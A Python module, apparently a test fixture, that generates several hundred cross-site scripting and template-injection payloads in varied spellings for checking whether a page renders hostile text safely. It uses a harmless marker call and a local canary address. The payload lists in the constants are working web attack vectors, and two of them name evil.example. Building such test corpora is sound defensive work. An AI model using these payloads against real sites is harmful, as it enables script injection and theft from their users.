"""What hostile text tries to become when a page shows it: markup, script, address, style, template.

Every payload that could run calls `__ran()`; every one that could fetch asks CANARY for something.
They are made by rule, each vector in each of its spellings.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

CANARY = "http://127.0.0.1:9"  # replaced by the address of the listener

_RUN = "__ran()"
_NAME = re.compile(r"[a-z!-]+")
_ELEMENTS = (
    "<script>{run}</script>",
    "<script src={canary}/s.js></script>",
    "<img src=x onerror={run}>",
    "<img src={canary}/i.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><image href=1 onerror={run} /></svg>#x'/>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src={canary}/f></iframe>",
    "<object data={canary}/o></object>",
    "<object data='javascript:{run}'></object>",
    "<embed src={canary}/e>",
    "<video src=x onerror={run}></video>",
    "<video poster={canary}/p></video>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<audio autoplay src={canary}/a></audio>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<keygen autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<marquee onstart={run}>",
    "<a href='javascript:{run}'>click</a>",
    "<a href='data:text/html,<script>{run}</script>'>click</a>",
    "<form action='javascript:{run}'><button>go</button></form>",
    "<form><button formaction='javascript:{run}'>go</button></form>",
    "<isindex type=image src=1 onerror={run}>",
    "<link rel=stylesheet href={canary}/c.css>",
    "<link rel=preload as=image href={canary}/l>",
    "<link rel=dns-prefetch href={canary}>",
    "<meta http-equiv=refresh content='0;url={canary}/m'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href={canary}/>",
    "<style>@import '{canary}/s.css';</style>",
    "<style>*{background:url({canary}/b)}</style>",
    "<div style='background:url({canary}/d)'>x</div>",
    "<table background={canary}/t><td>x</td></table>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<math href='javascript:{run}'>click</math>",
    "<template><img src=x onerror={run}></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "<!--<img src='--><img src=x onerror={run}>'>",
    "<x onclick={run}>click</x>",
    "<x onmouseover={run} style=position:fixed;inset:0>x</x>",
    "<x onanimationstart={run} style=animation:x>x</x>",
    "<picture><source srcset={canary}/ss><img></picture>",
    "<portal src={canary}/portal></portal>",
    "<menu><menuitem onclick={run}>x</menu>",
)
_SPELLINGS = ("plain", "upper", "quoted", "slashed", "entities")
_BREAKERS = (
    "\"'><img src=x onerror={run}>",
    "'\"--></style></script><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><img src=x onerror={run}>",
    "]]><img src=x onerror={run}>",
    '" onmouseover={run} x="',
    "' autofocus onfocus={run} x='",
    '\\"-{run}-\\"',
    "';{run};//",
    "\u2028{run}//",
    "`-{run}-`",
    "</script><svg onload={run}>",
    "%3Cscript%3E{run}%3C/script%3E",
    "\x3cimg src=x onerror={run}\x3e",
    "＜img src=x onerror={run}＞",  # noqa: RUF001 - full-width on purpose
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
)
_TEMPLATES = (
    "{{constructor.constructor('{run}')()}}",
    "${{run}}",
    "#{{run}}",
    "<%= {run} %>",
    "{{7*7}}{{{run}}}",
    "[[${{run}}]]",
    "{% raw %}<img src=x onerror={run}>{% endraw %}",
    "[x](javascript:{run})",
    "![x]({canary}/md.png)",
)
_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    " javascript:{run}",
    "javascript://x.example/%0a{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3JhbigpPC9zY3JpcHQ+",
    "vbscript:{run}",
    "{canary}/plain",
    "//127.0.0.1/protocol-relative",
    "https://evil.example/'><img src=x onerror={run}>",
    "https://evil.example/?q=<script>{run}</script>",
)


def payloads(canary: str = CANARY) -> list[str]:
    """Every payload once; more than 300 of them."""
    return list(dict.fromkeys(_filled(one, canary) for one in _shapes()))


def _filled(shape: str, canary: str) -> str:
    return shape.replace("{run}", _RUN).replace("{canary}", canary)


def _shapes() -> Iterator[str]:
    for element, spelling in product(_ELEMENTS, _SPELLINGS):
        yield _spelled(element, spelling)
    yield from _BREAKERS
    yield from _TEMPLATES
    for address in _ADDRESSES:
        yield address
        yield f'<a href="{address}">click</a>'
        yield quote(address, safe="{}")


def _spelled(element: str, spelling: str) -> str:
    name, tag = _NAME.match(element, 1), element
    assert name is not None
    match spelling:
        case "upper":
            return f"<{name[0].upper()}{tag[name.end() :]}"
        case "quoted":
            return f"\"'>{tag}"
        case "slashed":
            return f"<{name[0]}/{tag[name.end() :].lstrip()}<"
        case "entities":
            return html.escape(tag).replace("&lt;", "&#60;")
        case _:
            return tag
